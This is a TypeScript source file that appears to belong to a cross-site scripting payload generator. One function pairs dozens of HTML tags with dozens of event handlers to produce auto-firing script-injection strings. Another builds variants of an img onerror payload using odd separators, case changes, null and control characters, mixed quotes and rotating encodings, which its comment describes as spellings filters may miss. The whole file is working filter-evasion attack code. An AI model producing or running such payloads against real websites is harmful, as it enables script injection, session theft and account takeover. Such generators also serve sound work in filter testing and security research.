import { ENCODINGS, type Writer } from './payload-writer.ts'

const TAGS = `
  a | abbr | article | audio src=x | b | blockquote | body | button | canvas | center | details open | dialog open
  div | embed src=x | fieldset | font | form | frameset | h1 | html | iframe | image src=x | img src=x | input
  input type=image src=x | keygen | label | li | link rel=stylesheet href=x | marquee | menu | meter | noscript
  object data=x | ol | option | p | picture | pre | q | script src=x | section | select | slot | span | style
  svg | math | table | td | template | textarea | track | tr | tt | u | ul | video src=x | video | xss
  x-element is=img
`
  .trim()
  .split(/\s+\|\s+|\s*\n\s*/)

const HANDLERS = `
  onload onerror onclick onfocus onblur onmouseover onpointerenter ontoggle onbeforetoggle onanimationstart
  onanimationend ontransitionend onscroll onscrollend onstart onbegin onplay onloadstart onresize onpageshow
  onhashchange onpopstate onmessage onbeforeprint oncopy onpaste oninput onsubmit onkeydown onwheel ondrag
  oncontentvisibilityautostatechange onsecuritypolicyviolation onslotchange onafterscriptexecute
  onunhandledrejection
`
  .trim()
  .split(/\s+/)

export function handlers(): Writer[] {
  const help = 'autofocus tabindex=1 contenteditable style=animation-name:x'
  return TAGS.flatMap((tag) =>
    HANDLERS.map(
      (handler): Writer =>
        (code) =>
          `<${tag} ${handler}=${code} ${help}>x`,
    ),
  )
}

/** The same handler, written as parsers still understand it and filters may not. */
export function spellings(): Writer[] {
  const between = [' ', '/', '\t', '\n', '\f', '//', ' / ', '\u00a0', ' x=y ']
  const names = [
    'onerror',
    'ONERROR',
    'oNeRrOr',
    'onerror\n',
    'onerror\t',
    'onerror\u000b',
    '\u0000onerror',
    'on\u0000error',
  ]
  const quotes = ['', '"', "'", '`']
  return between.flatMap((gap) =>
    names.flatMap((name) =>
      quotes.map(
        (quote, place): Writer =>
          (code) => {
            const encoded = ENCODINGS[(place + name.length) % ENCODINGS.length]?.(code) ?? code
            return `<img${gap}src=x${gap}${name}=${quote}${encoded}${quote}>`
          },
      ),
    ),
  )
}
